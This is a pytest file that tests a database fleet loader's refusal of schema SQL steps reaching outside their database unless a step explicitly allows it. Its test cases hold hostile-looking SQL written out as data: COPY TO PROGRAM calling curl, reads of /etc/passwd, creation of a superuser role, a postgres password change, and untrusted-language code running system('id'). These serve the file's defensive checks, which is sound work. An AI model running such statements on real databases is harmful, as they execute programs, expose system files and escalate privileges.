"""Schema steps stay inside their database: statements that reach the server (files, programs,
roles, settings, untrusted languages) are refused unless the step allows them explicitly."""

import pytest

from engine.config import loader
from engine.errors import ConfigError

FLEET = """\
servers:
  a: {embedded: true}
databases:
  orders:
    shard_key: {column: id, type: bigint}
    schema: [s1.sql, STEP]
    placement: [a]
"""


def _load(tmp_path, sql: str, step: str = "s2.sql"):
    (tmp_path / "fleet.yaml").write_text(FLEET.replace("STEP", step))
    (tmp_path / "s1.sql").write_text("CREATE TABLE t (id bigint PRIMARY KEY);\n")
    (tmp_path / "s2.sql").write_text("-- step two\n" + sql + "\n")
    return loader.load(tmp_path, cwd=tmp_path)


@pytest.mark.parametrize("sql,why", [
    ("COPY t TO PROGRAM 'curl http://x';", "COPY ... PROGRAM runs a program on the server"),
    ("COPY t FROM '/etc/passwd';", "COPY with a file name reads or writes a file on the server"),
    ("ALTER SYSTEM SET work_mem = '1GB';", "ALTER SYSTEM"),
    ("CREATE ROLE evil SUPERUSER LOGIN;", "roles belong to the whole server"),
    ("ALTER ROLE postgres PASSWORD 'x';", "roles belong to the whole server"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1';", "language plpython3u is untrusted"),
    ("DO LANGUAGE plperlu $$ system('id') $$;", "language plperlu is untrusted"),
    ("CREATE EXTENSION dblink;", "extension dblink reaches outside"),
    ("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd');", "pg_read_file() reaches the server's files"),
    ("SET ROLE postgres;", "SET ROLE changes who"),
    ("CREATE TABLESPACE ts LOCATION '/tmp';", "a tablespace is a directory on the server"),
])
def test_statements_reaching_outside_are_refused_at_their_line(tmp_path, sql, why):
    with pytest.raises(ConfigError) as info:
        _load(tmp_path, sql)
    err = info.value.render()
    assert err.startswith("s2.sql:2:1: error: this statement reaches outside its database: "), err
    assert why in err
    assert "allow_outside_database: true" in err


def test_a_step_may_allow_it_explicitly(tmp_path):
    desired = _load(tmp_path, "COPY t FROM '/srv/seed.csv';", "{file: s2.sql, allow_outside_database: true}")
    assert [s.name for s in desired.databases["orders"].schema_steps] == ["s1.sql", "s2.sql"]
    inline = "{name: seed, sql: \"CREATE ROLE reader;\", allow_outside_database: true}"
    assert _load(tmp_path, "SELECT 1;", inline).databases["orders"].schema_steps[1].name == "seed"


def test_ordinary_ddl_and_trusted_languages_pass(tmp_path):
    _load(tmp_path, "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;\n"
          "COPY t FROM STDIN;\nGRANT SELECT ON t TO PUBLIC;\nCREATE EXTENSION IF NOT EXISTS pgcrypto;")


def test_a_step_mapping_takes_one_form(tmp_path):
    with pytest.raises(ConfigError) as info:
        _load(tmp_path, "SELECT 1;", "{file: s2.sql, sql: 'SELECT 1;', name: x}")
    assert "a schema step has either `file:` or `name:` with `sql:`, not both" in info.value.render()
